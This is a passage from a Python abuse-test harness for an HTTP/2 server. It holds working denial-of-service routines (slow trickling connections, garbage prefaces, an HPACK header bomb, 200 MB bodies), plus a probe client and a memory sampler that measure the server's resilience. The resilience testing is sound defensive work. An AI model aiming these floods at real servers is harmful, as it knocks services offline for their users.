                sock.send(script[offset % len(script) : offset % len(script) + 1])
                result.count(1)
                still.append(i)
            except BlockingIOError:
                still.append(i)
            except OSError as error:
                closed[_closed_how(error, writing=True)] += 1
        alive = still
        offset += 1
        if not checked and clock.left() < seconds / 2:
            checked = True  # once all are open and trickling
            result.note(f"a new client meanwhile: {_fresh_health_check(target)}")
        time.sleep(min(0.2, clock.left()))
    result.note(f"{len(alive)} still open at the end; the server ended {len(socks) - len(alive)}")
    for sock, _ in socks:
        with contextlib.suppress(OSError):
            sock.close()
    for how, count in closed.items():
        result.reactions.extend(Reaction(closed=how) for _ in range(count))
    return result


GARBAGE_KINDS = ("random bytes", "preface + random", "HTTP/1.1 line + random", "1 MiB line")


def _garbage(kind: str, rng: random.Random) -> bytes:
    if kind == "random bytes":
        return rng.randbytes(16_384)
    if kind == "preface + random":
        return PREFACE + rng.randbytes(16_384)
    if kind == "HTTP/1.1 line + random":
        return b"GET / HTTP/1.1\r\n" + rng.randbytes(16_384)
    return b"A" * (1 << 20)


def _classify(data: bytes) -> str:
    """What a server's answer to garbage was, from its first bytes."""
    if data.startswith(b"HTTP/1."):
        return "HTTP " + data.split(b"\r\n", 1)[0].decode("latin-1", "replace")[9:12]
    if len(data) >= 9:
        offset = 0
        while len(data) - offset >= 9:
            length = int.from_bytes(data[offset : offset + 3], "big")
            if data[offset + 3] == GOAWAY and len(data) - offset >= 17:
                code = int.from_bytes(data[offset + 13 : offset + 17], "big")
                return f"GOAWAY {error_name(code)}"
            offset += 9 + length
        return "h2 frames, no GOAWAY"
    return f"{len(data)} bytes"


def garbage_preface(target: Target, seconds: float, stop: threading.Event) -> AttackResult:
    """Connections that send garbage instead of a preface (and one 1 MiB line), eight at a
    time, each read until the server closes it (or 2 s)."""
    result = AttackResult("garbage instead of a preface", unit="garbage connections")
    clock = _Clock(seconds, stop)
    outcomes: Counter[str] = Counter()
    lock = threading.Lock()

    def one(index: int) -> None:
        rng = random.Random(index)
        kind = GARBAGE_KINDS[index % len(GARBAGE_KINDS)]
        try:
            sock = socket.create_connection((target.host, target.port), timeout=2.0)
        except OSError as error:
            with lock:
                outcomes[f"connect failed: {type(error).__name__}"] += 1
            return
        answer = bytearray()
        how = "held open 2 s"
        garbage = _garbage(kind, rng)
        try:
            with contextlib.suppress(OSError):
                sock.sendall(garbage)
            deadline = time.monotonic() + 2.0
            while time.monotonic() < deadline:
                sock.settimeout(max(0.01, deadline - time.monotonic()))
                try:
                    data = sock.recv(65_536)
                except TimeoutError:
                    break
                except OSError as error:
                    how = _closed_how(error, writing=False)
                    break
                if not data:
                    how = "closed"
                    break
                answer += data
        finally:
            sock.close()
        with lock:
            outcomes[f"{kind}: {_classify(bytes(answer)) + ', ' if answer else ''}{how}"] += 1
            result.connections += 1
            result.bytes_sent += len(garbage)

    index = 0
    with ThreadPoolExecutor(max_workers=8) as pool:
        while not clock.over():
            wave = [pool.submit(one, index + i) for i in range(8)]
            index += 8
            for future in wave:
                future.result(timeout=10.0)
    result.frames_sent = index
    for outcome, count in outcomes.items():
        reaction = Reaction()
        reaction.other[outcome] = count
        result.reactions.append(reaction)
    return result


# What the bomb makes the server decode in all: four times the RSS budget, whatever the limit.
BOMB_DECODED_BYTES = 800_000_000
BOMB_WAVES = 48


def hpack_bomb(target: Target, seconds: float, stop: threading.Event) -> AttackResult:
    """A huge header list from a small block: one ~4 KB field put in the server's dynamic
    table, then referenced with one byte per copy.

    The first stream decodes to twice the advertised SETTINGS_MAX_HEADER_LIST_SIZE (the server
    must refuse it). Then as many streams as ``BOMB_DECODED_BYTES`` buys (at most the
    advertised MAX_CONCURRENT_STREAMS), each decoding to 90 % of the limit (within it, so the
    server takes them), in ``BOMB_WAVES`` waves paced over the attack; none ends, all are held
    open until the deadline. (Counted and paced rather than endless: a server that takes them
    all must not take this machine's memory along; the safety valve stops it earlier.)
    """
    result = AttackResult("HPACK bomb")
    clock = _Clock(seconds, stop)
    value = b"a" * 4000
    name = b"x-bomb"
    entry = len(name) + len(value) + HPACK_ENTRY_OVERHEAD
    insert = hpack_literal(name, value, add_to_table=True)
    ref = hpack_indexed(FIRST_DYNAMIC_INDEX)
    base = request_block(target)
    interval = seconds * 0.75 / BOMB_WAVES
    decoded_total = 0
    bombs = 0
    total: int | None = None
    while not clock.over():
        conn = _connect(target, result)
        if conn is None:
            continue
        conn.start_reader()
        limit = conn.reaction.settings.get(SETTINGS_MAX_HEADER_LIST_SIZE, 16 << 20)
        max_streams = conn.reaction.settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, 100)
        copies = max(1, int(0.9 * limit) // entry)
        over = ref * (2 * limit // entry)
        under = ref * copies
        stream_id = 1
        # The table entry is per connection: the first block on each one inserts it.
        first = insert
        if total is None:
            total = max(1, min(max_streams - 1, BOMB_DECODED_BYTES // (copies * entry)))
            result.note(
                f"server advertised MAX_HEADER_LIST_SIZE={limit}, "
                f"MAX_CONCURRENT_STREAMS={max_streams}: {total} streams of {copies} copies"
            )
            if conn.send(header_frames(stream_id, base + first + over)):
                result.count(1 + len(first + over) // MAX_FRAME_PAYLOAD)
                decoded_total += 2 * limit
            first = b""
            stream_id += 2
        per_wave = max(1, total // BOMB_WAVES)
        streams = 0
        while conn.usable and not clock.over() and bombs < total:
            wave = []
            for _ in range(min(per_wave, total - bombs)):
                wave.append(header_frames(stream_id, base + first + under))
                first = b""
                stream_id += 2
            if conn.send(b"".join(wave), timeout=min(2.0, clock.left())):
                result.count(sum(1 + len(w) // (MAX_FRAME_PAYLOAD + 9) for w in wave))
                decoded_total += len(wave) * copies * entry
                streams += len(wave)
                bombs += len(wave)
            stop.wait(min(interval, clock.left()))
        result.note(f"connection {result.connections}: {streams} streams within the limit")
        while conn.usable and not clock.over():  # hold them open
            stop.wait(min(0.05, clock.left()))
        conn.read_for(0.2)
        result.finish(conn)
    result.note(
        f"{result.bytes_sent / 1e6:.2f} MB sent decode to {decoded_total / 1e6:,.0f} MB of headers"
    )
    return result


HUGE_BODY = 200 * 1024 * 1024


def _body_chunks_oversized() -> Iterator[bytes]:
    """Start, then one message whose header claims the whole 200 MB (over the 32 MiB bound)."""
    header = struct.pack(">HHI", InputCommandMessage.TYPE, 0, HUGE_BODY)
    yield journal(known=1, id=b"\x02" * 16, debug_id="inv_abuse_huge") + header
    zeros = b"\0" * (1 << 20)
    for _ in range(HUGE_BODY // len(zeros)):
        yield zeros


def _body_chunks_small_messages() -> Iterator[bytes]:
    """200 MB of journal made of 1 MiB messages, each well under the message size bound."""
    value = b"x" * (1 << 20)
    steps = HUGE_BODY // (len(value) + 64)
    yield journal(
        InputCommandMessage(value=b"1"),
        known=1 + 2 * steps,
        id=b"\x03" * 16,
        debug_id="inv_abuse_journal",
    )
    for i in range(steps):
        for entry in run_entries(i + 1, f"s{i}", value):
            yield encode_frame(entry)


def huge_body(
    target: Target, seconds: float, stop: threading.Event, *, small_messages: bool
) -> AttackResult:
    """A 200 MB request body to /invoke, sent as fast as the server's windows allow.

    Either one message claiming 200 MB (the 32 MiB bound must refuse it at its header), or a
    200 MB journal of 1 MiB messages (each within the bound). Up to ``seconds`` * 3 to send.
    """
    label = "200 MB body of 1 MiB messages" if small_messages else "200 MB body, one message"
    result = AttackResult(label)
    clock = _Clock(seconds * 3, stop)
    try:
        conn = H2Conn(target)
        conn.handshake()
    except (OSError, HandshakeFailed) as error:
        result.note(f"could not connect: {error}")
        return result
    result.connections = 1
    conn.collect_bodies = True
    conn.start_reader()
    started = time.monotonic()
    stream_id = 1
    conn.send(frame(HEADERS, END_HEADERS, stream_id, request_block(target)))
    sent = 0
    frames = 1
    chunks = _body_chunks_small_messages() if small_messages else _body_chunks_oversized()
    for chunk in chunks:
        if clock.over():
            break
        got = conn.send_data(stream_id, chunk, end_stream=False, deadline=clock.end)
        sent += got
        frames += math.ceil(got / MAX_FRAME_PAYLOAD)
        if got < len(chunk):
            break
    else:
        conn.send_data(stream_id, b"", end_stream=True, deadline=clock.end)
        frames += 1
    result.frames_sent = frames
    elapsed = time.monotonic() - started
    ended = (
        "reset by the server"
        if stream_id in conn.reset_streams
        else ("answered" if stream_id in conn.ended_streams else "open")
    )
    result.note(f"sent {sent / 1e6:.0f} MB in {elapsed:.1f} s; the stream was {ended} then")
    # The answer, once the server is done with the body.
    deadline = time.monotonic() + 5.0
    while (
        stream_id not in conn.ended_streams
        and stream_id not in conn.reset_streams
        and conn.reaction.closed is None
        and time.monotonic() < deadline
    ):
        time.sleep(0.05)
    answer = bytes(conn.bodies.get(stream_id, b""))
    result.note(f"answer: {describe_answer(answer) if answer else 'none'}")
    result.finish(conn)
    return result


# -- the well-behaved client ------------------------------------------------------------------

PROBE_INTERVAL = 0.2  # one invocation every 200 ms
PROBE_TIMEOUT = 5.0  # a call not answered by then is a failure


@dataclass
class ProbeResult:
    calls: int
    answered: int
    latencies: list[float]  # of the answered calls, seconds
    errors: list[str]

    @property
    def success(self) -> float:
        return self.answered / self.calls if self.calls else 0.0

    def percentile(self, p: float) -> float:
        """Nearest-rank percentile of the answered calls' latencies (inf if none)."""
        if not self.latencies:
            return math.inf
        ordered = sorted(self.latencies)
        return ordered[max(0, math.ceil(p * len(ordered)) - 1)]


class Probe:
    """The well-behaved client in its own process: ``start`` returns once its connection is
    open and a first call was answered; ``finish`` stops it and returns what it saw."""

    def __init__(self, target: Target) -> None:
        self.target = target
        self._process: subprocess.Popen[str] | None = None

    def start(self, timeout: float = 30.0) -> None:
        env = dict(os.environ)
        env["PYTHONPATH"] = os.pathsep.join([str(ROOT), env.get("PYTHONPATH", "")]).rstrip(
            os.pathsep
        )
        self._process = subprocess.Popen(
            [sys.executable, "-m", "tests.h2_attackers", "probe", "--port", str(self.target.port)],
            cwd=ROOT,
            env=env,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        assert self._process.stdout is not None
        poller = select.poll()
        poller.register(self._process.stdout, select.POLLIN)
        line = self._process.stdout.readline() if poller.poll(int(timeout * 1000)) else ""
        if line.strip() != "ready":
            self.kill()
            raise RuntimeError(f"the probe did not start: {line!r}")

    def finish(self, timeout: float = PROBE_TIMEOUT + 10.0) -> ProbeResult:
        process = self._process
        assert process is not None
        try:
            out, err = process.communicate(input="stop\n", timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill()
            raise RuntimeError(f"the probe did not stop within {timeout:.0f} s") from None
        lines = [line for line in out.splitlines() if line.startswith("{")]
        if process.returncode != 0 or not lines:
            raise RuntimeError(f"the probe failed ({process.returncode}): {err[-2000:]}")
        data = json.loads(lines[-1])
        return ProbeResult(data["calls"], data["answered"], data["latencies"], data["errors"])

    def kill(self) -> None:
        if self._process is not None and self._process.poll() is None:
            self._process.kill()
            self._process.wait(timeout=5.0)


async def _probe(port: int) -> dict[str, Any]:
    import httpx

    headers = {"content-type": CONTENT_TYPE, "accept": CONTENT_TYPE}
    async with httpx.AsyncClient(
        base_url=f"http://127.0.0.1:{port}",
        http1=False,
        http2=True,
        timeout=PROBE_TIMEOUT,
        trust_env=False,
        limits=httpx.Limits(max_connections=1, max_keepalive_connections=1),
    ) as client:

        async def call(n: int) -> tuple[float | None, str | None]:
            started = time.perf_counter()
            try:
                response = await asyncio.wait_for(
                    client.post(INVOKE_PATH, content=invocation_journal(n), headers=headers),
                    PROBE_TIMEOUT,
                )
            except Exception as error:
                return None, f"call {n}: {type(error).__name__}: {error}"[:300]
            latency = time.perf_counter() - started
            if response.status_code != 200 or response.http_version != "HTTP/2":
                return None, f"call {n}: {response.http_version} {response.status_code}"
            problem = check_answer(response.content, n)
            return (latency, None) if problem is None else (None, f"call {n}: {problem}")

        latency, problem = await call(0)  # opens the connection before the attack starts
        if latency is None:
            print(json.dumps({"error": problem}), flush=True)
            raise SystemExit(2)
        print("ready", flush=True)
        loop = asyncio.get_running_loop()
        stopped = loop.run_in_executor(None, sys.stdin.readline)
        calls: list[asyncio.Task[tuple[float | None, str | None]]] = []
        next_at = time.perf_counter()
        n = 1
        while not stopped.done():
            calls.append(asyncio.ensure_future(call(n)))
            n += 1
            next_at += PROBE_INTERVAL
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(
                    asyncio.shield(stopped), max(0.0, next_at - time.perf_counter())
                )
        results = await asyncio.gather(*calls)
    latencies = [lat for lat, _ in results if lat is not None]
    errors = [err for _, err in results if err is not None]
    return {
        "calls": len(results),
        "answered": len(latencies),
        "latencies": latencies,
        "errors": errors[:5],
    }


# -- the server's process tree ----------------------------------------------------------------


@dataclass(frozen=True)
class Usage:
    pids: tuple[int, ...]
    rss_mb: float
    fds: int


def _rss_kb(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def _fd_count(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return 0


def usage(root: int, pids: list[int] | None = None) -> Usage:
    """RSS (MB) and open fds summed over ``root``'s process tree (or over ``pids``)."""
    tree = pids if pids is not None else process_tree(root)
    return Usage(
        tuple(tree),
        sum(_rss_kb(pid) for pid in tree) / 1024,
        sum(_fd_count(pid) for pid in tree),
    )


class Sampler:
    """Samples the tree's RSS every 50 ms in a thread; sets ``stop`` (the attack's) once the
    growth passes ``abort_growth_mb``, to keep this machine safe (the test fails anyway)."""

    def __init__(
        self, root: int, baseline_mb: float, stop: threading.Event, abort_growth_mb: float
    ) -> None:
        self.root = root
        self.baseline_mb = baseline_mb
        self.attack_stop = stop
        self.abort_growth_mb = abort_growth_mb
        self.samples: list[tuple[float, float]] = []  # (monotonic, rss MB)
        self.aborted = False
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._run, name="rss-sampler", daemon=True)

    def __enter__(self) -> Sampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._done.set()
        self._thread.join(timeout=5.0)

    def _run(self) -> None:
        pids = process_tree(self.root)
        rescan = time.monotonic() + 0.5
        while not self._done.is_set():
            now = time.monotonic()
            if now >= rescan:  # granian may start (or restart) a worker
                pids, rescan = process_tree(self.root), now + 0.5
            rss = usage(self.root, pids).rss_mb
            self.samples.append((now, rss))
            if rss - self.baseline_mb > self.abort_growth_mb and not self.aborted:
                self.aborted = True
                self.attack_stop.set()
            self._done.wait(0.05)

    def peak(self) -> float:
        return max((rss for _, rss in self.samples), default=0.0)


def main() -> int:
    parser = argparse.ArgumentParser(description="the abuse tests' well-behaved client")
    sub = parser.add_subparsers(dest="command", required=True)
    probe = sub.add_parser("probe", help="one invocation every 200 ms until stdin says stop")
    probe.add_argument("--port", type=int, required=True)
    args = parser.parse_args()
    if args.command == "probe":
        print(json.dumps(asyncio.run(_probe(args.port))), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
